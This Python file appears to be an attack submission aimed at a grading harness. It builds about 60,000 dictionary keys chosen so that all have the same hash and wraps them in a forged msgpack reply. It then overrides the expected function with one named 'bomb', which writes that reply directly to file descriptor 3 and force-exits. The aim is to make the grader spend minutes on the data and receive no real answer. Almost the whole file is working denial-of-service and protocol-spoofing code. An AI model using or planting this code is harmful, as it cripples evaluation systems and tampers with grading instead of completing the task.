"""Returns a dict whose keys have one hash, so that reading it compares each with all others.

Succeeds if the grader takes minutes for it.
"""

import os
import struct

import msgpack

nothing = msgpack.ExtType(1, msgpack.packb([]))
keys = (msgpack.ExtType(5, hex(k * (2**61 - 1)).encode()) for k in range(5, 60_000))
value = msgpack.packb(msgpack.ExtType(6, msgpack.packb([[key, 0] for key in keys])))
payload = msgpack.packb([NAMES[0], 0, ["ok", value, "", nothing, "", None, nothing]])
frame = struct.pack(">cI", b"a", len(payload)) + payload


def bomb(*args, **kwargs):
    data = memoryview(frame)
    while data:
        data = data[os.write(3, data) :]
    os._exit(0)  # so that no other answer comes after this one


globals()[NAMES[0]] = bomb
